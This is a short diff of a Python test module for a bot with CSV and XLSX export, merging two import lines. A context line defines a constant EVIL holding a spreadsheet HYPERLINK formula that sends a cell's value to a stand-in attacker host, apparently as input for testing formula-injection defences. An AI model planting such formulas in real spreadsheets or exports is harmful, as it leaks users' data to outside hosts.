@@ -26,8 +26,7 @@ from storage.db import Database
 from storage.export import ExportRow, write_csv, write_xlsx
 from storage.models import BasicInfo, InboundEvent, Member, Unit
 from storage.units import reviewed_units
-from tests.dialog_helpers import pick, say, seen
-from tests.harness import ROSTER, Bot, start_bot
+from tests.harness import ROSTER, Bot, pick, say, seen, start_bot
 
 SETTINGS_TOML = Path(__file__).parent.parent / "settings.toml"
 EVIL = '=HYPERLINK("http://evil.example/?"&B2,"点我")'
